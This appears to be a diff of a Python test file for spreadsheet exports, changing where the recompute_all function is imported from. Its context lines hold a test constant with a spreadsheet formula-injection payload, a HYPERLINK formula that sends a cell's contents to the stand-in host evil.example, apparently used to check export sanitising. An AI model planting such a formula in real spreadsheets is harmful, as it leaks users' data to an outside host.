@@ -9,8 +9,8 @@ import openpyxl
 import pytest
 
 from collaboratives.exports import FORMULA_TRIGGERS
+from measures.charts.recompute import recompute_all
 from measures.models import Observation, RunChartAnalysis
-from measures.services import recompute_all
 from tests.factories import MeasureFactory
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
